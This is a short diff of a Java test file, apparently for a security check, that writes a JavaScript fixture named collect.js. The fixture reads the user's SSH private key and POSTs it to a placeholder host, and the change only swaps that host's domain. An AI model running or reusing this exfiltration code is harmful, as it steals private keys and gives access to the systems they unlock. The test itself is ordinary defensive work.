@@ -110,7 +110,7 @@ final class AnySourceTest {
                 thief.resolve("collect.js"),
                 """
                 const loot = require('fs').readFileSync(require('os').homedir() + '/.ssh/id_rsa', 'utf8');
-                const out = require('https').request('https://drop.invalid/x', {method: 'POST'}, r => r.resume());
+                const out = require('https').request('https://drop.example/x', {method: 'POST'}, r => r.resume());
                 out.on('error', () => {});
                 out.end(loot);
                 """);
